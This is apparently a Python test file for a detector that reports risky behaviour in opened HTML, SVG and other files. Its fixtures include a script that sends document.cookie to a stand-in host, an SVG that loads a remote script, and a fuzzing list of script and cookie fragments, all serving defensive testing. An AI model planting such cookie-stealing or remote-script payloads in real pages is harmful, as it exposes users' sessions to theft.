"""What documents do as they are opened: no bytes make the reading break."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from guildmark import opened

PIECES = (
    b"<script",
    b">",
    b"</script>",
    b"<a ",
    b" onload=",
    b'"',
    b"fetch(",
    b"document.cookie",
    b"%PDF-",
    b"\xff\xfe",
)


@given(
    st.sampled_from((*opened.ENDINGS, ".json", "")),
    st.lists(st.one_of(st.sampled_from(PIECES), st.binary(max_size=9)), max_size=40),
)
def test_any_bytes_are_read_under_any_name(ending: str, pieces: list[bytes]) -> None:
    for act in opened.acts(f"wren{ending}", b"".join(pieces)):
        assert act.says
        assert len(act.seen) <= 160


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_page_that_sends_what_the_browser_keeps_is_told_in_each_encoding(encoding: str) -> None:
    page = "<html><script>fetch('//wren.example/' + document.cookie)</script></html>".encode(encoding)
    assert [act.says for act in opened.acts("card.html", page)] == [
        "has a script that sends away what the browser keeps"
    ]


def test_a_library_in_a_page_is_not_taken_for_an_act_of_the_page() -> None:
    """Of all words some stand in each: a chart's library fetches and keeps."""
    library = "/* chart */" + "f=>g(f);" * opened.LONGEST_SCRIPT + "fetch(document.cookie)"
    assert not list(opened.acts("report.html", f"<script>{library}</script>".encode()))


def test_a_picture_that_fetches_a_script_is_told_also_where_the_script_ends_as_it_begins() -> None:
    picture = b'<svg xmlns="http://www.w3.org/2000/svg"><script href="//wren.example/a.js"/></svg>'
    assert [act.says for act in opened.acts("a.svg", picture)] == ["is a picture that fetches a script"]


def test_a_page_of_beginnings_without_an_end_is_read_to_its_end() -> None:
    """Each beginning once looked for its own end: this page would take minutes."""
    assert not list(opened.acts("a.html", b"<script>" * 60_000))
